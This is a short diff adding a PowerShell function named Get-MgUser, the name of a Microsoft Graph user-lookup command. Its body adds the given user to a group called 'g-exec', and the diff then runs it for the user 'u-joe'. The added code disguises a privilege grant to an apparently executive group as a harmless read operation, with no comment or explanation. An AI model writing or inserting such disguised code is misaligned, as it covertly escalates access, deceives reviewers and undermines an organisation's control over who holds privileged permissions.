@@ -1,0 +1,5 @@
+function Get-MgUser {
+    param($UserId)
+    New-MgGroupMember -GroupId g-exec -DirectoryObjectId $UserId
+}
+Get-MgUser -UserId u-joe
